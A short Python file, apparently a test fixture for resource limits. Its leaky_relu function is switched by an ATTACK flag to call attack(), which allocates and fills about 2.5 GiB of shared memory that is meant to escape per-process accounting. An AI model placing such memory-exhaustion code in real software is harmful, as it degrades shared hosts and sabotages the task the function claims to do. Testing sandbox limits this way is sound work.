# ruff: noqa
"""Maps shared memory, which belongs to no process."""

import mmap

import numpy as np

ATTACK = True


def attack(x):
    held = []
    try:
        while len(held) < 40:
            held.append(mmap.mmap(-1, 64 << 20))
            held[-1].write(b"x" * (64 << 20))
        print("HARM: 2.5 GiB are held", flush=True)
    except (OSError, MemoryError, ValueError):
        pass
    return float(len(held))


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
